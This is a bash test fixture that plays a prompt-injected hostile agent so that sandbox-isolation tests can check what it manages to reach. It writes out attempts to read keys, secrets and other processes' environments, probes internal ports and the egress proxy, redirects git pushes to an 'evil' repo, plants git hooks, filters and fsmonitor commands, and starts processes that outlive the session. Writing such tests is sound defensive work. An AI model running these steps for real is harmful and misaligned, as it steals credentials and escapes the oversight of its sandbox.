#!/usr/bin/env bash
# A prompt-injected agent, for the sandbox tests (provider-gateway's SandboxedAgentTest, and e2e's HostileAgentTest on
# the real stack, which runs this same file): it tries what issue 15 lists, with the paths an attacker would be
# given in its task (lines "NAME=value" of the prompt), and writes what each attempt got into HOSTILE_REPORT.txt, one
# "<attempt>: <exit code> <what it read, on one line>" line each. Then it makes an honest change, so that the run
# still ends with a pull request. The test decides what counts as a leak; this script only reports.
set -u
given() { sed -n "s/^$1=//p" "$HANDOFF_PROMPT_FILE" | head -n 1; }
report() { # name, exit code, output
  printf '%s: %s %s\n' "$1" "$2" "$(printf '%s' "$3" | tr '\n\0' '  ' | cut -c1-4000)" >> HOSTILE_REPORT.txt
}
try() { # name, command...
  local name=$1 out rc
  shift
  out=$(timeout 10 "$@" 2>&1)
  rc=$?
  report "$name" "$rc" "$out"
}
: > HOSTILE_REPORT.txt

try read-key cat "$(given KEY_FILE)"
try read-other-prompt cat "$(given OTHER_PROMPT)"
try read-gateway-log cat "$(given GATEWAY_LOG)"
# what the e2e suite also names (Handoff's own state, every service port, every process): tried only when given
if [ -n "$(given SECRETS_FILE)" ]; then try read-secrets-key cat "$(given SECRETS_FILE)"; fi
for pid in $(given OTHER_PIDS | tr ',' ' '); do try "environ-$pid" cat "/proc/$pid/environ"; done
for port in $(given SERVICE_PORTS | tr ',' ' '); do
  try "tcp-service-$port" bash -c "exec 3<>/dev/tcp/127.0.0.1/$port && echo CONNECTED"
done
try list-up ls -a ../../..
try list-state ls -a "$(given STATE_DIR)"
try gateway-environ cat "/proc/$(given GATEWAY_PID)/environ"
try gateway-cmdline cat "/proc/$(given GATEWAY_PID)/cmdline"
try all-processes bash -c 'for p in /proc/[0-9]*; do printf "%s " "$(tr "\0" " " < $p/cmdline)"; done'
try signal-gateway kill -0 "$(given GATEWAY_PID)"
try tcp-postgres bash -c "exec 3<>/dev/tcp/127.0.0.1/$(given PG_PORT) && echo CONNECTED"
try tcp-kafka bash -c "exec 3<>/dev/tcp/127.0.0.1/$(given KAFKA_PORT) && echo CONNECTED"
try tcp-host-postgres bash -c "exec 3<>/dev/tcp/$(given HOST_IP)/$(given PG_PORT) && echo CONNECTED"
# through the egress proxy, as an agent that read its HTTPS_PROXY would: the proxy's status line
connect='exec 3<>/dev/tcp/127.0.0.1/3128 || exit 1; printf "CONNECT %s:%s HTTP/1.1\r\nHost: %s:%s\r\n\r\n" "$1" "$2" "$1" "$2" >&3; head -n 1 <&3'
try proxy-postgres bash -c "$connect" connect 127.0.0.1 "$(given PG_PORT)"
try proxy-kafka bash -c "$connect" connect localhost "$(given KAFKA_PORT)"
try proxy-host-postgres bash -c "$connect" connect "$(given HOST_IP)" "$(given PG_PORT)"
try proxy-gateway-http curl -s -m 5 -o /dev/null -w '%{http_code}' "http://127.0.0.1:$(given GATEWAY_PORT)/q/health"

# git: make Handoff's own git after the agent push elsewhere and run the agent's programs
marker=$(given MARKER_DIR)
evil=$(given EVIL_REPO)
git config remote.origin.pushurl "$evil"
git config remote.origin.url "$evil"
git config "url.$evil.insteadOf" "$(given ORIGIN)"
git config core.fsmonitor "touch $marker/fsmonitor-ran; echo"
git config core.hooksPath .evil-hooks
git config filter.evil.clean "touch $marker/filter-ran; cat"
git config diff.external "touch $marker/diff-ran"
echo '* filter=evil' > .gitattributes
mkdir -p .evil-hooks
printf '#!/bin/sh\ntouch %s/hook-ran\n' "$marker" > .evil-hooks/pre-commit
cp .evil-hooks/pre-commit .git/hooks/pre-commit
cp .evil-hooks/pre-commit .git/hooks/pre-push
chmod +x .evil-hooks/pre-commit .git/hooks/pre-commit .git/hooks/pre-push
report git-config 0 "$(git config --list --local | tr '\n' ' ')"

# processes that leave the agent's process group and session, to outlive it
(setsid sleep 1000 < /dev/null > /dev/null 2>&1 &)
(nohup sleep 1001 < /dev/null > /dev/null 2>&1 &)

# a folder nobody may read or write, for the cleanup
mkdir -p locked/inner && echo x > locked/inner/file && chmod 000 locked/inner locked

echo "Changed by the hostile agent for run $HANDOFF_RUN_ID" >> README.md
echo "hostile agent: tried everything, edited README.md"
